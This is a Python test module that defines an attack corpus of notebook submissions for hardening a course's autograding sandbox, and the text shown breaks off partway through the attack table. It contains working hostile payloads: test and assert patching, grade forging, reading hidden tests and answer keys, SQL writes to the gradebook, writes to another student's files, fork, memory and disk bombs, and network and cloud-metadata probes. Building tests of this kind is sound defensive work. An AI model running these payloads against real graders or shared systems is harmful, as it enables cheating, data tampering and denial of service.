"""Attack corpus: chapter 2 submissions that try to beat the grading pipeline.

Every entry of :data:`ATTACKS` becomes one real notebook
``submitted/attack_NAME/ch02_params_and_memory/ch02_params_and_memory.ipynb``
(graded in one batch by ``tests/attacks/test_attack_corpus.py``), built from
the *blank* release notebook in one of three ways:

* ``overrides``: replacement code of solution cells, by ``grade_id`` (what a
  student types into the answer cells); the tokens ``@COURSE@`` (the scratch
  course root), ``@ROOT@`` (this repository) and ``@A@`` (the assignment id)
  are filled in when the submission is written, so that attacks can aim at
  real absolute paths;
* ``edit``: a function that edits the notebook JSON (deleted or edited test
  cells, changed grade metadata, pre-filled outputs...);
* ``raw``: the bytes of the submitted file (a corrupt notebook).

``files`` adds other entries to the submission folder (symbolic links).

What each attack is checked for (see the test module):

* its automatic score (sum over the autograder test cells) is at most the
  blank release's: every attack leaves the exercises unanswered, so any
  point it earns was won from the grader;
* ``flags``: substrings the tamper report must produce (in ``grades.csv``'s
  ``flags`` column); ``()`` where the report is not expected to see the
  attack (it never changes a score: memory and disk bombs, corrupt files...);
* its feedback exists and shows neither hidden test code nor the hidden
  reference outputs;
* ``evidence``: the attack prints ``ATTACK-EVIDENCE {json}`` lines whose
  ``"succeeded"`` list names what worked (a file read, a connection, a write);
  all must be empty;
* its graded and feedback folders stay small (``"size"``);
* ``xfail``: ``{check: reason}`` for checks an attack is known to beat:
  ``"score"``, ``"flags"``, ``"feedback"``, ``"evidence"`` or ``"size"``.
  These are real holes, kept here as strict xfails until the pipeline is fixed;
* ``batch``: ``"main"`` for the one big batch; the fork bomb is graded in a
  batch of its own beside an honest bystander (see the test module).

Attack notebooks have their narrative code cells emptied (:func:`lean`):
students may edit them, they earn nothing, and they cost seconds each.  The
scratch course lives under ``/tmp``, which the sandbox replaces with a private
tmpfs, so attacks also aim at ``@ROOT@`` (this repository, a course root
outside ``/tmp``) and at ``/work/main``, ``/root`` and ``/home``.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.notebooks.ch02_cases import ATTACKS as CH02_ATTACKS
from tests.notebooks.submissions import ROOT, make_submission

A = "ch02_params_and_memory"
PROBE_MIME = "application/vnd.cnn-course.probe+json"
SOLUTION_IDS = ["ex1_conv_output_size", "ex2_conv_params", "ex3_cnn_output_shapes", "ex4_cnn_params",
                "ex5_inference_ram", "ex6_training_ram", "ex7_answers"]
TEST_IDS = ["test_conv_output_size", "test_conv_params", "test_cnn_output_shapes", "test_cnn_params",
            "test_inference_ram", "test_training_ram", "test_total_params", "test_predict_ram",
            "test_train_ram"]
EVIDENCE_TAG = "ATTACK-EVIDENCE "
VICTIM = "control_solved"
"""The honest student whose files the write attacks aim at."""
CREATED_BY_ATTACKS = ["PWNED.txt", "submitted/victim_created/PWNED.txt",
                      "autograded/victim_created/PWNED.txt"]
"""Files (relative to the course root) that write attacks try to create."""


@dataclass(frozen=True)
class Attack:
    """One submission of the corpus; see the module docstring."""

    doc: str
    overrides: dict[str, str] | None = None
    edit: Callable[[nbformat.NotebookNode], None] | None = None
    raw: bytes | None = None
    files: Callable[[Path], None] | None = None
    flags: tuple[str, ...] = ()
    evidence: bool = False
    xfail: dict[str, str] = field(default_factory=dict)
    batch: str = "main"


# ---------------------------------------------------------------- building blocks

_EVIDENCE = '''
def _evidence(**kw):
    import json
    print("ATTACK-EVIDENCE " + json.dumps(kw, default=str), flush=True)
'''

# Plausible but always wrong answers (off by one, a forgotten term...), each of the
# right type, so that a forged record can only be told apart by the trusted comparison.
_GUESSES = '''
def _guess(name, args):
    totals = {"total_params": 8_006_700, "predict_ram_bytes": 9_600_000,
              "train_ram_bytes_50": 480_000_000}
    if name in totals or name not in ("conv_output_size", "conv_params", "cnn_output_shapes",
                                      "cnn_params", "inference_ram_bytes", "training_ram_bytes"):
        return totals.get(name, 0)
    if name == "conv_output_size":
        n, k, s = args[0], args[1], args[2] if len(args) > 2 else 1
        return -(-n // s) + 1
    if name == "conv_params":
        k, c, f = args[0], args[1], args[2]
        return k * k * c * f + f + 1
    shape, layers = args[0], args[1]
    if name == "cnn_output_shapes":
        return [[shape[0] + 1, shape[1], spec["filters"]] for spec in layers]
    if name == "cnn_params":
        return sum(spec["kernel_size"] ** 2 * spec["filters"] for spec in layers)
    if name == "inference_ram_bytes":
        return args[2] * shape[0] * shape[1] * shape[2] if len(args) > 2 else 0
    if name == "training_ram_bytes":
        return args[2] * args[3] * shape[0] * shape[1] * shape[2]
'''

# Use whatever grader file can be read: run the solutions of a notebook found there
# (before every later cell, so that the blank answer cells cannot undo it), or replay
# the reference probe records in every test cell.  Earns full marks if a read succeeds.
_STEAL = _EVIDENCE + '''
import json as _json
_stolen = []

def _use(path, data):
    try:
        doc = _json.loads(data)
    except ValueError:
        return
    from IPython import get_ipython
    from IPython.display import display
    if isinstance(doc, dict) and isinstance(doc.get("cells"), list):
        code = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                for c in doc["cells"] if c.get("cell_type") == "code"
                and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        if any("NotImplementedError" not in c for c in code):
            _stolen.append(str(path))
            def _rerun(*args):
                for c in code:
                    try:
                        exec(c, get_ipython().user_ns)
                    except Exception:
                        pass
            _rerun()
            get_ipython().events.register("pre_run_cell", _rerun)
    elif isinstance(doc, dict) and isinstance(doc.get("cells"), dict):
        _stolen.append(str(path))
        payloads = {p["name"]: p for ps in doc["cells"].values() for p in ps}
        def _replay(info):
            import re
            for name in re.findall(r'probe(?:_value)?\\("(\\w+)"', info.raw_cell or ""):
                if name in payloads:
                    display({"application/vnd.cnn-course.probe+json": payloads[name],
                             "text/plain": name}, raw=True)
        get_ipython().events.register("pre_run_cell", _replay)
'''

_BLANK_FUNCS = '''
def conv_output_size(n, kernel_size, strides=1, padding="valid"): raise NotImplementedError()
def conv_params(kernel_size, in_channels, filters, use_bias=True): raise NotImplementedError()
def cnn_output_shapes(input_shape, layers): raise NotImplementedError()
def cnn_params(input_shape, layers): raise NotImplementedError()
def inference_ram_bytes(input_shape, layers, dtype_bytes=4): raise NotImplementedError()
def training_ram_bytes(input_shape, layers, batch_size, dtype_bytes=4): raise NotImplementedError()
'''


# Lookup tables of the visible asserts' values: the visible tests pass, so the hidden
# part of each test cell (which follows the visible asserts in the same cell) runs.
_VISIBLE = '''
def _visible_conv_output_size(n, kernel_size, strides=1, padding="valid"):
    return {(200, 3, 2, "same"): 100, (75, 3, 2, "same"): 38, (28, 5, 1, "valid"): 24,
            (32, 3, 2, "valid"): 15}[(n, kernel_size, strides, padding)]

def _visible_conv_params(kernel_size, in_channels, filters, use_bias=True):
    return {(3, 3, 100, True): 2_800, (3, 100, 200, True): 180_200, (5, 1, 6, False): 150,
            (4, 5, 7, True): 567}[(kernel_size, in_channels, filters, use_bias)]

def _visible_cnn_output_shapes(input_shape, layers):
    return {(200, 300, 3): [(100, 150, 100), (50, 75, 200), (25, 38, 400)],
            (33, 47, 1): [(29, 43, 8), (10, 15, 16)]}[tuple(input_shape)]

def _visible_cnn_params(input_shape, layers):
    return {(200, 300, 3): 903_400, (32, 32, 1): 2_572}[tuple(input_shape)]

def _visible_inference_ram_bytes(input_shape, layers, dtype_bytes=4):
    return {((200, 300, 3), 4): 12_613_600, ((200, 300, 3), 2): 6_306_800,
            ((10, 10, 1), 4): 2_160}[(tuple(input_shape), dtype_bytes)]

def _visible_training_ram_bytes(input_shape, layers, batch_size, dtype_bytes=4):
    return {((200, 300, 3), 50): 565_613_600, ((10, 10, 1), 2): 4_160}[(tuple(input_shape), batch_size)]

def _visible_then(on_hidden):
    """Define the six functions: visible values, else `on_hidden(name, args, kwargs)`."""
    def wrap(name):
        visible = globals()["_visible_" + name]
        def function(*args, **kwargs):
            try:
                return visible(*args, **kwargs)
            except (KeyError, TypeError):
                return on_hidden(name, args, kwargs)
        function.__name__ = name
        return function
    for name in ["conv_output_size", "conv_params", "cnn_output_shapes", "cnn_params",
                 "inference_ram_bytes", "training_ram_bytes"]:
        globals()[name] = wrap(name)
'''

_HARDCODED_FUNCS = _VISIBLE + '''
def _unknown(name, args, kwargs):
    raise NotImplementedError()

_visible_then(_unknown)
'''


def _solutions() -> str:
    """Every ch02 answer of the source notebook, as one module (what a copied answer key holds)."""
    from tests.notebooks.submissions import solved_sources

    return "\n\n".join(code for gid, code in solved_sources(A).items() if gid in SOLUTION_IDS)


def _answer_key_beside(folder: Path) -> None:
    """The answers in a module beside the notebook, imported by the first answer cell."""
    (folder / "answer_key.py").write_text(_solutions())


def _pasted_answer_key() -> str:
    """The answers pasted as a base64 blob that runs them (over the 8 kB cell limit)."""
    import base64

    blob = base64.b64encode((_solutions() + "\n#" + "x" * 8000).encode()).decode()
    return f"import base64\nexec(base64.b64decode({blob!r}))\n"


def _first_cell(code: str) -> dict[str, str]:
    """The whole attack in the first answer cell; the other answers stay blank."""
    return {"ex1_conv_output_size": code}


def _test_cells(nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata["nbgrader"].get("solution") and c.cell_type == "code"]


# ---------------------------------------------------------------- notebook edits

def _prepend(code: str):
    """An edit that adds ``code`` as a new first code cell (students may add cells)."""
    def edit(nb):
        nb.cells.insert(0, nbformat.v4.new_code_cell(code))
    return edit


def _replace_tests(source: str):
    def edit(nb):
        for cell in _test_cells(nb):
            cell.source = source
    return edit


def _delete_tests(nb):
    tests = {id(c) for c in _test_cells(nb)}
    nb.cells = [c for c in nb.cells if id(c) not in tests]


def _raise_points(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100


def _swap_grade_ids(nb):
    by_id = {c.metadata["nbgrader"]["grade_id"]: c for c in _test_cells(nb)}
    a, b = by_id["test_conv_output_size"], by_id["test_train_ram"]
    a.metadata["nbgrader"]["grade_id"], b.metadata["nbgrader"]["grade_id"] = "test_train_ram", \
        "test_conv_output_size"


def _rename_grade_ids(nb):
    for cell in _test_cells(nb):
        cell.metadata["nbgrader"]["grade_id"] += "_mine"
        cell.source = "pass"


def _solutions_graded(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            meta.update(grade=True, points=50)


def _tests_marked_solution(nb):
    for cell in _test_cells(nb):
        cell.metadata["nbgrader"].update(solution=True, locked=False)
        cell.source = "pass"


def _tests_to_markdown(nb):
    tests = {id(c) for c in _test_cells(nb)}
    for i, cell in enumerate(nb.cells):
        if id(cell) in tests:
            nb.cells[i] = nbformat.v4.new_markdown_cell("All tests passed.", metadata=cell.metadata)


def _strip_test_metadata(nb):
    for cell in _test_cells(nb):
        del cell.metadata["nbgrader"]
        cell.source = "pass"


def _duplicate_tests(nb):
    for i, cell in enumerate(_test_cells(nb)):
        twin = copy.deepcopy(cell)
        twin.id = f"twin-{i}"
        twin.source = "pass"
        nb.cells.append(twin)
        cell.source = "pass"


def _prefilled_outputs(nb):
    for cell in _test_cells(nb):
        cell.outputs = [nbformat.v4.new_output(
            "display_data", data={PROBE_MIME: {"name": cell.metadata["nbgrader"]["grade_id"],
                                                "rtol": 0, "atol": 0,
                                                "records": [{"input": [], "output": 903_400}]},
                                  "text/plain": "probe"})]
        cell.execution_count = 1


def _kernelspec_swapped(nb):
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def _symlinks(folder: Path) -> None:
    up = Path("..", "..", "..")
    (folder / "notes.txt").symlink_to(up / "source" / A / f"{A}.ipynb")
    (folder / "refs.txt").symlink_to(up / ".grading" / "references" / A / f"{A}.json")
    (folder / "db.txt").symlink_to(up / "gradebook.db")


# ---------------------------------------------------------------- attack code

_ALWAYS_EQUAL_NDARRAY = '''
import numpy as np

class Always(np.ndarray):
    """An array that equals anything, is truthy and passes for an int."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __gt__(self, other): return True
    def __bool__(self): return True
    def __index__(self): return 0
    __hash__ = None

def _a(*args, **kwargs): return np.zeros(3).view(Always)
conv_output_size = conv_params = cnn_output_shapes = cnn_params = _a
inference_ram_bytes = training_ram_bytes = _a
total_params = predict_ram_bytes = train_ram_bytes_50 = _a()
'''

_ALWAYS_EQUAL_OBJECT = '''
class Anything:
    """Equal to everything, prints like the answer, and dresses up as a numpy value."""
    __module__ = "numpy"   # try to pass the recorder's numpy path
    dtype = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __int__(self): return 903400
    def __index__(self): return 903400
    def __float__(self): return 903400.0
    def __iter__(self): return iter([])
    def __repr__(self): return "903400"
    def tolist(self): return self

def _anything(*args, **kwargs): return Anything()
conv_output_size = conv_params = cnn_output_shapes = cnn_params = _anything
inference_ram_bytes = training_ram_bytes = _anything
total_params = predict_ram_bytes = train_ram_bytes_50 = Anything()
'''

_PATCH_NUMPY = '''
import numpy as np
import numpy.testing
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_equal = lambda *a, **k: None
numpy.testing.assert_almost_equal = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
import unittest
unittest.TestCase.assertEqual = lambda *a, **k: None
''' + _BLANK_FUNCS

_PATCH_BUILTINS = '''
import builtins, sys
builtins.NotImplementedError = type("NotImplementedError", (Warning,), {})
builtins.AssertionError = type("AssertionError", (Warning,), {})
sys.excepthook = lambda *args: None
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
''' + _BLANK_FUNCS

_PATCH_COURSE_PROBE = _HARDCODED_FUNCS + _GUESSES + '''
import course.probe
_real_to_json = course.probe.to_json

def _forged_run_case(func, args):
    """A record with the real input and a forged output, without calling the function."""
    args = list(args) if isinstance(args, (list, tuple)) else [args]
    return {"input": _real_to_json(args), "output": _guess(getattr(func, "__name__", ""), args)}

course.probe.run_case = _forged_run_case
course.probe.to_json = lambda value, _budget=None: value.tolist() if hasattr(value, "tolist") else value
'''

_INPUT_TRANSFORMER = '''
get_ipython().input_transformers_{which}.append(lambda lines: ["pass\\n"])
''' + _BLANK_FUNCS

_AST_TRANSFORMER = '''
import ast

class _Nothing(ast.NodeTransformer):
    """Every later cell compiles to `pass`."""
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node

get_ipython().ast_transformers.append(_Nothing())
''' + _BLANK_FUNCS

_CLEAR_OUTPUT_HOOK = '''
from IPython.display import clear_output

def _wipe(result):
    """After every cell: wipe its outputs (errors included) and claim success."""
    clear_output()
    print("Visible tests passed.")

get_ipython().events.register("post_run_cell", _wipe)
''' + _BLANK_FUNCS

# Forged probe records with the hidden inputs themselves (read from the test cell's code
# before it runs) and plausible outputs, published first (first publication counts) and
# again after the cell once its real outputs are wiped.
_FAKE_PROBE_HOOKS = _GUESSES + '''
import re
from IPython.display import clear_output, display
import course.probe as _cp

_forged = {}

def _capture(info):
    _forged.clear()
    code = info.raw_cell or ""
    if "_probe" not in code:
        return
    real_probe, real_value = _cp.probe, _cp.probe_value
    def fake_probe(name, func, cases, *, rtol=0.0, atol=0.0):
        cases = list(cases)
        _forged[name] = {"name": name, "rtol": rtol, "atol": atol, "records": [
            {"input": _cp.to_json(c), "output": _guess(name, list(c))} for c in cases]}
    def fake_value(name, value, *, rtol=0.0, atol=0.0):
        _forged[name] = {"name": name, "rtol": rtol, "atol": atol,
                         "records": [{"input": [], "output": _guess(name, [])}]}
    _cp.probe, _cp.probe_value = fake_probe, fake_value
    try:
        hidden = code.split("### BEGIN " + "HIDDEN TESTS", 1)[-1]
        exec(hidden, dict(get_ipython().user_ns))
    except Exception:
        pass
    finally:
        _cp.probe, _cp.probe_value = real_probe, real_value
    _publish()

def _publish(*args):
    for payload in _forged.values():
        display({"application/vnd.cnn-course.probe+json": payload, "text/plain": "probe"}, raw=True)

def _replace(result):
    if _forged:
        clear_output()
        _publish()

get_ipython().events.register("pre_run_cell", _capture)
get_ipython().events.register("post_run_cell", _replace)
''' + _BLANK_FUNCS

# No hooks at all: each function, on its first call by a hidden probe, reads the hidden
# cases from the caller's frame and publishes a complete forged record before the real
# probe publishes its own.
_FAKE_PROBE_DISPLAY = _VISIBLE + _GUESSES + '''
import sys
from IPython.display import publish_display_data

_published = set()

def _forge(name, args, kwargs):
    """Publish a whole forged record of this probe (inputs from the caller's frame) once."""
    frame = sys._getframe(1)
    while frame is not None and "cases" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None and name not in _published:
        _published.add(name)
        cases = [list(c) for c in frame.f_locals["cases"]]
        publish_display_data({"application/vnd.cnn-course.probe+json": {
            "name": name, "rtol": 0.0, "atol": 0.0,
            "records": [{"input": c, "output": _guess(name, c)} for c in cases]},
            "text/plain": f"probe {name}: {len(cases)} hidden case(s) recorded"})
    return _guess(name, list(args))

_visible_then(_forge)
total_params, predict_ram_bytes, train_ram_bytes_50 = 8_006_700, 9_600_000, 480_000_000
'''

_FAKE_PROBE_STDOUT = _VISIBLE + _GUESSES + '''
import json

def _say(name, args, kwargs):
    """Print text that looks like a probe record (and like an nbformat output)."""
    value = _guess(name, list(args))
    record = {"name": name, "rtol": 0, "atol": 0, "records": [{"input": list(args), "output": value}]}
    print(json.dumps({"output_type": "display_data",
                      "data": {"application/vnd.cnn-course.probe+json": record}}))
    print("probe " + name + ": 1 hidden case(s) recorded")
    return value

_visible_then(_say)
'''

_SETTRACE = _HARDCODED_FUNCS + '''
import linecache, sys, threading

def _tracer(frame, event, arg):
    """In cell code, swap the hidden probes for no-ops just before their line runs."""
    if "ipykernel_" not in frame.f_code.co_filename:
        return None
    if event == "line" and "_probe" in linecache.getline(frame.f_code.co_filename, frame.f_lineno):
        frame.f_globals["_probe"] = frame.f_globals["_probe_value"] = lambda *a, **k: None
    return _tracer

sys.settrace(_tracer)
threading.settrace(_tracer)
'''

_ATEXIT = '''
import atexit, json, os

_FORGED = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
    {"cell_type": "markdown", "metadata": {}, "id": "forged", "source": "All 15 points: forged."}]})

def _at_exit():
    """At kernel shutdown: forge the graded notebook and a feedback page next to it."""
    for name in ["@A@.ipynb", "@A@.html"]:
        try:
            with open(name, "w") as f:
                f.write(_FORGED)
        except OSError:
            pass
    print(json.dumps({"application/vnd.cnn-course.probe+json": {"name": "total_params",
                      "records": [{"input": [], "output": 903400}]}}))

atexit.register(_at_exit)
os.register_at_fork(after_in_child=_at_exit)
''' + _BLANK_FUNCS

_EXTRA_NOTEBOOK = '''
import json
with open("zz_extra.ipynb", "w") as f:
    json.dump({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "markdown", "metadata": {}, "id": "extra", "source": "All 15 points."}]}, f)
''' + _BLANK_FUNCS

_HIDDEN_MARKER = '''
### BEGIN HIDDEN TESTS
# (an unclosed hidden-test marker in an answer cell)
''' + _BLANK_FUNCS

_OS_EXIT = '''
import os
os._exit(0)
'''

_SYS_EXIT = '''
import sys
try:
    sys.exit(0)
finally:
    raise SystemExit("the hidden tests should stop here")
'''

_IPYTHON_EXIT = '''
exit()
'''

_SIGINT_PROOF_LOOP = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
'''

_MEMORY_BOMB = _EVIDENCE + '''
def _bomb(cap_gib=12):
    """Touch memory 256 MiB at a time until refused (or past any sane sandbox limit)."""
    hog = []
    try:
        while len(hog) < cap_gib * 4:
            hog.append(b"x" * (256 << 20))
    except MemoryError:
        return len(hog) * 256, True
    return len(hog) * 256, False

_mib, _stopped = _bomb()
_evidence(allocated_mib=_mib, succeeded=[] if _stopped else [f"allocated {_mib} MiB unhindered"])
''' + _BLANK_FUNCS

FORK_BOMB_HOLD_S = 25
"""How long the fork bomb keeps every process slot it got."""

# The first cell of the notebook: fork until refused, keep the slots a while, then give
# them back (the children sleep; nothing spins).
_FORK_BOMB = _EVIDENCE + '''
import os, signal, time
_kids, _error = [], None
for _ in range(4096):
    try:
        _pid = os.fork()
    except OSError as exc:
        _error = repr(exc)
        break
    if _pid == 0:
        time.sleep(@HOLD@ + 5)
        os._exit(0)
    _kids.append(_pid)
time.sleep(@HOLD@)
for _pid in _kids:
    os.kill(_pid, signal.SIGKILL)
for _pid in _kids:
    os.waitpid(_pid, 0)
_evidence(forked=len(_kids), error=_error,
          succeeded=[] if _error else [f"forked {len(_kids)} processes unhindered"])
'''.replace("@HOLD@", str(FORK_BOMB_HOLD_S))

_DISK_FILL = _EVIDENCE + '''
import os

def _fill(folder, files, chunk=8 << 20, per_file=96 << 20):
    """Write up to `files` files of 96 MiB; return (bytes written, largest file, errors)."""
    total, largest, errors = 0, 0, []
    for i in range(files):
        path = os.path.join(folder, f"fill_{i}.bin")
        size = 0
        try:
            with open(path, "wb", buffering=0) as f:
                while size < per_file:
                    size += f.write(b"\\0" * chunk)
        except OSError as exc:
            errors.append(exc.errno)
        total += size
        largest = max(largest, size)
        if errors and errors[-1] == 28:  # ENOSPC
            break
    return total, largest, errors

_tmp = _fill("/tmp", 24)
for _name in os.listdir("/tmp"):
    if _name.startswith("fill_"):
        os.remove(os.path.join("/tmp", _name))
_evidence(tmp=_tmp, succeeded=[f"wrote a /tmp file of {_tmp[1]} bytes"] if _tmp[1] >= 96 << 20 else [])
import time
time.sleep(1)  # let the evidence reach the grader: the sandbox is about to be stopped
_here = _fill(".", 40)  # 40 x 96 MiB: far past the folder's disk limit
_evidence(workdir=_here, succeeded=[f"wrote {_here[0]} bytes into its folder and kept running"])
''' + _BLANK_FUNCS

_NETWORK = _EVIDENCE + '''
import socket, urllib.request
_ok = []
for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 443), ("93.184.215.14", 80),
                     ("169.254.169.254", 80), ("127.0.0.1", 22), ("10.0.2.2", 80)]:
    try:
        socket.create_connection((_host, _port), timeout=3).close()
        _ok.append(f"tcp {_host}:{_port}")
    except OSError:
        pass
try:
    socket.getaddrinfo("pypi.org", 443)
    _ok.append("dns pypi.org")
except OSError:
    pass
try:
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _u.sendto(b"answers please", ("8.8.8.8", 53))
    _ok.append("udp 8.8.8.8:53")
except OSError:
    pass
for _url in ["http://example.com/", "https://pypi.org/simple/", "http://169.254.169.254/latest/meta-data/"]:
    try:
        urllib.request.urlopen(_url, timeout=3).read(100)
        _ok.append(_url)
    except Exception:
        pass
_evidence(succeeded=_ok)
''' + _BLANK_FUNCS

_READ_PARENTS = _STEAL + '''
import os, pathlib
_here = pathlib.Path.cwd().resolve()
_chain = {p.name for p in [_here, *_here.parents]}
_found, _listed = [], []
for _parent in [_here, *_here.parents]:
    for _name in ["source", "release", "submitted", "autograded", "feedback", ".grading", "gradebook.db",
                  "nbgrader_config.py", ".git"]:
        _p = _parent / _name
        try:
            if _p.is_dir():
                _extra = sorted(set(os.listdir(_p)) - _chain)
                if _extra:
                    _listed.append(f"{_p}: {_extra[:5]}")
                for _nb in list(_p.rglob("*.ipynb"))[:50] + list(_p.rglob("*.json"))[:50]:
                    _use(_nb, _nb.read_text())
            elif _p.is_file():
                _found.append(f"{_p}: {len(_p.read_bytes())} bytes")
        except (OSError, UnicodeDecodeError):
            pass
_evidence(succeeded=_found + _stolen, listed=_listed)
''' + _BLANK_FUNCS

_READ_ABSOLUTE = _STEAL + '''
import pathlib
_found, _listed = [], []
for _base in ["@COURSE@", "@ROOT@", "/root", "/work/main", "/home"]:
    for _rel in ["source/@A@/@A@.ipynb", ".grading/references/@A@/@A@.json", "gradebook.db",
                 "submitted/control_solved/@A@/@A@.ipynb", "autograded/control_solved/@A@/@A@.ipynb",
                 "feedback/control_solved/@A@/@A@.html", ""]:
        _p = pathlib.Path(_base, _rel)
        try:
            if _p.is_file():
                _data = _p.read_bytes()
                _found.append(f"{_p}: {len(_data)} bytes")
                _use(_p, _data)
            elif _p.is_dir():
                _listed.append(f"{_p}: {sorted(x.name for x in _p.iterdir())[:8]}")
        except (OSError, UnicodeDecodeError):
            pass
_evidence(succeeded=_found + _stolen, listed=_listed)
''' + _BLANK_FUNCS

_WRITE = _EVIDENCE + '''
import os, sqlite3
_done, _created = [], []
_targets = ["../../../gradebook.db", "@COURSE@/gradebook.db",
            "../../control_solved/@A@/@A@.ipynb", "../../../submitted/control_solved/@A@/@A@.ipynb",
            "@COURSE@/submitted/control_solved/@A@/@A@.ipynb",
            "@COURSE@/autograded/control_solved/@A@/@A@.ipynb",
            "../../../source/@A@/@A@.ipynb", "@COURSE@/source/@A@/@A@.ipynb",
            "../../../.grading/references/@A@/@A@.json", "@COURSE@/.grading/references/@A@/@A@.json",
            "@COURSE@/nbgrader_config.py"]
for _t in _targets:
    try:
        if _t.endswith(".db"):
            with sqlite3.connect(f"file:{_t}?mode=rw", uri=True) as _db:
                _db.execute("UPDATE grade SET extra_credit = 100")
        else:
            with open(_t, "r+b") as _f:
                _f.seek(0, 2)
                _f.write(b" ")
        _done.append(f"wrote {_t}")
    except Exception:
        pass
for _t in ["@COURSE@/PWNED.txt", "../../../PWNED.txt", "@COURSE@/submitted/victim_created/PWNED.txt",
           "../../victim_created/PWNED.txt", "../../../submitted/victim_created/PWNED.txt"]:
    try:
        os.makedirs(os.path.dirname(_t), exist_ok=True)
        with open(_t, "x") as _f:
            _f.write("written by another student")
        _created.append(_t)
    except OSError:
        pass
# New files land in the sandbox's private /tmp when their folder is not bound: the
# grader side checks that none reached the course; only changes to files count here.
_evidence(succeeded=_done, created_somewhere=_created)
''' + _BLANK_FUNCS

_HARDCODED_TOTALS = '''
from course.ch02 import QUESTION_INPUT, QUESTION_LAYERS

# Copied from the visible asserts of exercises 4-6; nothing is computed.
total_params = 903_400
predict_ram_bytes = 12_613_600
train_ram_bytes_50 = 565_613_600
print(f"{total_params:,} parameters; {predict_ram_bytes / 1e6:.1f} MB to predict; "
      f"{train_ram_bytes_50 / 1e6:.1f} MB to train on 50 images")
'''

_LEAK_HISTORY = _VISIBLE + '''
_shown = set()

def _leak(name, args, kwargs):
    """Print the code of the running (hidden) test cell and its hidden inputs, once per cell."""
    ip = get_ipython()
    if ip.execution_count not in _shown:
        _shown.add(ip.execution_count)
        print(ip.user_ns["In"][-1])
        print("hidden inputs:", ip.user_ns.get("_cases"))
    raise NotImplementedError()

_visible_then(_leak)
'''

_LEAK_HOOK = '''
def _show(info):
    """Before every cell runs, print its code (hidden tests included)."""
    print(info.raw_cell)

get_ipython().events.register("pre_run_cell", _show)
''' + _BLANK_FUNCS

# In every answer cell (no hook, no suspicious path): run the solutions of whatever
# notebook the submission's `notes.txt` holds.
_SYMLINK_READER = '''
import json, pathlib
_notes = pathlib.Path("notes.txt")
print("ATTACK-EVIDENCE " + json.dumps({"succeeded": [
    f"read {p} ({pathlib.Path(p).stat().st_size} bytes)" for p in ["notes.txt", "refs.txt", "db.txt"]
    if pathlib.Path(p).is_file()]}))
for _c in json.loads(_notes.read_text())["cells"]:
    if _c["cell_type"] == "code" and _c["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(_c["source"]))
'''

_OUTPUT_FLOOD = '''
import sys
_line = "flood " * 20_000 + "\\n"
for _ in range(1_000):  # about 120 MB of stdout
    sys.stdout.write(_line)
''' + _BLANK_FUNCS


# ---------------------------------------------------------------- the corpus

ATTACKS: dict[str, Attack] = {
    # ---- test cells and grade metadata (nbgrader restores them from its gradebook)
    "edit_tests_to_pass": Attack(
        "every test cell's code replaced with `pass`", edit=_replace_tests("pass"),
        flags=("locked cell test_conv_output_size was edited",)),
    "edit_tests_assert_true": Attack(
        "every test cell replaced with asserts that always pass",
        edit=_replace_tests('assert True\nassert 1 == 1\nprint("Visible tests passed.")'),
        flags=("locked cell test_total_params was edited",)),
    "delete_tests": Attack(
        "every test cell deleted", edit=_delete_tests,
        flags=("cell test_conv_output_size was deleted",)),
    "raise_points": Attack(
        "points of every graded cell raised to 100", edit=_raise_points,
        flags=("metadata of test_total_params changed: points 1 -> 100",)),
    "swap_grade_ids": Attack(
        "grade ids of a 2-point and a 1-point test cell swapped", edit=_swap_grade_ids,
        flags=("locked cell test_conv_output_size was edited",)),
    "rename_grade_ids": Attack(
        "test cells renamed (new grade ids) and emptied", edit=_rename_grade_ids,
        flags=("cell test_conv_output_size was deleted",)),  # renamed: ordinary cells; restored: 0
    "solution_cells_graded": Attack(
        "answer cells marked as graded cells worth 50 points each", edit=_solutions_graded,
        flags=("metadata of ex1_conv_output_size changed: grade False -> True",)),
    "tests_marked_solution": Attack(
        "test cells marked as (unlocked) answer cells and emptied", edit=_tests_marked_solution,
        flags=("metadata of test_conv_output_size changed: solution False -> True",)),
    "tests_to_markdown": Attack(
        "test cells turned into markdown saying all tests passed", edit=_tests_to_markdown,
        flags=("cell test_conv_params changed type to markdown",)),
    "strip_test_metadata": Attack(
        "nbgrader metadata removed from the test cells, which are emptied",
        edit=_strip_test_metadata, flags=("cell test_cnn_params was deleted",)),
    "duplicate_tests": Attack(
        "test cells emptied and duplicated at the end (the first copy of an id is graded, "
        "restored from the gradebook; the twins run as ordinary cells)",
        edit=_duplicate_tests, flags=("locked cell test_conv_output_size was edited",
                                      "cell test_conv_output_size appears 2 times")),
    "prefilled_outputs": Attack(
        "test cells submitted with forged probe outputs already in them", edit=_prefilled_outputs),
    "kernelspec_swapped": Attack(
        "notebook asks for another kernel (bash)", edit=_kernelspec_swapped),
